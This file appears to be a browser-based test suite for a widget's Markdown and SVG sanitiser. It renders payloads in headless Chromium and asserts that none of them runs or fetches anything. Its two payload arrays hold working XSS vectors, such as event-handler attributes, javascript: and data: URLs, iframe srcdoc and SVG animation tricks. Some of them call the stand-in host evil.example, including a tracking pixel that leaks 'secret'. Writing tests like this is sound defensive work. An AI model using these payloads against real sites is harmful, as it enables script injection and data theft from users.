// The sanitiser in a real browser: DOMPurify needs a DOM, and only a browser shows whether a
// payload runs or fetches anything.
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { build } from "esbuild";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { funnelChart } from "../../tools/analytics/charts/funnel-chart.js";
import type { FunnelData } from "../../tools/analytics/reports/data.js";
import { browserAvailability, launchChromium } from "../testing/browser.js";

const here = dirname(fileURLToPath(import.meta.url));
const browser = browserAvailability("widget sanitiser browser test");

const MARKDOWN_PAYLOADS = [
  '<img src="https://evil.example/x.png" onerror="window.__pwned=1">',
  "<script>window.__pwned=1</script>",
  "[click me](javascript:window.__pwned=1)",
  "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)",
  "<javascript:window.__pwned=1>",
  "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s></svg>",
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  "<details open ontoggle=window.__pwned=1>x</details>",
  "<style>*{background:url(https://evil.example/css)}</style>",
  "![tracking](https://evil.example/pixel.png?d=secret)",
  '<a href="javascript:window.__pwned=1">x</a>',
  "`code` and **bold** <b onmouseover=window.__pwned=1>b</b>",
];

const SVG_PAYLOADS = [
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><rect width="10" height="10"/></svg>',
  "<svg><script>window.__pwned=1</script></svg>",
  '<svg><a href="javascript:window.__pwned=1"><text>x</text></a></svg>',
  '<svg><foreignObject><img src="https://evil.example/fo.png" onerror="window.__pwned=1"></foreignObject></svg>',
  '<svg><use href="https://evil.example/sprite.svg#a"/></svg>',
  '<svg><image href="https://evil.example/track.png"/></svg>',
  '<svg><animate attributeName="href" values="javascript:window.__pwned=1"/></svg>',
  "<svg><style>@import url(https://evil.example/x.css);</style></svg>",
  '<svg><rect width="1" height="1" style="fill:url(https://evil.example/f)"/></svg>',
  '<svg><set attributeName="onmouseover" to="window.__pwned=1"/></svg>',
];

describe.skipIf(browser.skip !== null)("widget sanitiser in Chromium", () => {
  let page: Page;
  let close: () => Promise<void>;
  const requests: string[] = [];

  beforeAll(async () => {
    const bundle = await build({
      stdin: { contents: 'import { createSanitizer } from "./sanitize.ts"; window.__sanitizer = createSanitizer(window);', resolveDir: here, loader: "ts" },
      bundle: true,
      format: "iife",
      write: false,
      logLevel: "silent",
    });
    const launched = await launchChromium(browser.path!);
    close = launched.close;
    page = await launched.context.newPage();
    await page.route("**/*", (route) => {
      const url = route.request().url();
      if (url === "http://widget.test/") return route.fulfill({ contentType: "text/html", body: "<!doctype html><title>sanitiser</title><body></body>" });
      requests.push(url);
      return route.abort();
    });
    page.on("dialog", (d) => {
      requests.push(`dialog:${d.message()}`);
      void d.dismiss();
    });
    await page.goto("http://widget.test/");
    await page.addScriptTag({ content: bundle.outputFiles[0]!.text });
  });

  afterAll(async () => {
    await close?.();
  });

  /** Renders each input into the live document, waits for anything that might fire, reports. */
  async function render(kind: "markdown" | "svg", inputs: string[]) {
    return page.evaluate(
      async ({ kind, inputs }) => {
        const w = window as unknown as { __sanitizer: { markdown(t: string): DocumentFragment; svg(t: string): DocumentFragment }; __pwned?: number };
        const out = inputs.map((input) => {
          const box = document.createElement("div");
          box.append(w.__sanitizer[kind](input));
          document.body.append(box);
          const elements = Array.from(box.querySelectorAll("*"));
          return {
            input,
            html: box.innerHTML,
            text: box.textContent ?? "",
            tags: [...new Set(elements.map((e) => e.localName))],
            attrs: elements.flatMap((e) => Array.from(e.attributes).map((a) => `${a.name}=${a.value}`)),
          };
        });
        await new Promise((r) => setTimeout(r, 300));
        return { out, pwned: w.__pwned ?? 0 };
      },
      { kind, inputs },
    );
  }

  it("renders Markdown payloads inert: nothing runs, nothing is fetched", async () => {
    const { out, pwned } = await render("markdown", MARKDOWN_PAYLOADS);
    expect(pwned).toBe(0);
    expect(requests).toEqual([]);
    for (const { input, tags, attrs } of out) {
      expect(tags.filter((t) => !["p", "a", "code", "strong", "br"].includes(t)), input).toEqual([]);
      expect(attrs.filter((a) => /^on|^style=|^src=|^href=(?!https?:|mailto:)/i.test(a)), input).toEqual([]);
    }
    // Raw HTML is shown as the text it is, not dropped.
    expect(out[0]!.text).toContain('<img src="https://evil.example/x.png" onerror="window.__pwned=1">');
    expect(out[9]!.html.trim()).toBe("<p>tracking</p>");
    expect(out[11]!.html).toContain("<code>code</code> and <strong>bold</strong>");
  });

  it("keeps safe links, opening them in a new tab without an opener", async () => {
    const { out } = await render("markdown", ["See [the docs](https://example.com/docs) or mail <ops@example.com>"]);
    expect(out[0]!.html).toContain('<a href="https://example.com/docs" target="_blank" rel="noopener noreferrer nofollow">the docs</a>');
    expect(out[0]!.html).toContain('href="mailto:ops@example.com"');
  });

  it("renders SVG payloads inert", async () => {
    const { out, pwned } = await render("svg", SVG_PAYLOADS);
    expect(pwned).toBe(0);
    expect(requests).toEqual([]);
    for (const { input, tags, attrs } of out) {
      expect(tags.filter((t) => !["svg", "rect", "text"].includes(t)), input).toEqual([]);
      expect(attrs.filter((a) => /^on|href|^style=|url\(/i.test(a)), input).toEqual([]);
    }
  });

  it("keeps a real InsightReport chart whole", async () => {
    const data = {
      steps: [
        { label: "/signup", count: 120, overall_conversion: 1, drop_off: 0 },
        { label: "/checkout", count: 48, overall_conversion: 0.4, drop_off: 72 },
      ],
    } as unknown as FunnelData;
    const svg = funnelChart("Funnel /signup → /checkout <last 30 days>", data);
    const { out } = await render("svg", [svg]);
    const counts = await page.evaluate((source) => {
      const count = (root: ParentNode) => ({
        rect: root.querySelectorAll("rect").length,
        text: root.querySelectorAll("text").length,
        title: root.querySelectorAll("title").length,
      });
      const original = new DOMParser().parseFromString(source, "image/svg+xml");
      const box = document.body.lastElementChild!;
      const svgEl = box.querySelector("svg")!;
      return { before: count(original), after: count(box), role: svgEl.getAttribute("role"), label: svgEl.getAttribute("aria-label") };
    }, svg);
    expect(counts.after).toEqual(counts.before);
    expect(counts.role).toBe("img");
    expect(counts.label).toBe("Funnel /signup → /checkout <last 30 days>");
    expect(out[0]!.text).toContain("/checkout");
  });
});

if (browser.skip !== null && browser.required) {
  it("widget sanitiser in Chromium: required by FLASHFUSION_REQUIRE_E2E=1", () => {
    throw new Error(`FLASHFUSION_REQUIRE_E2E=1 but ${browser.skip}`);
  });
}
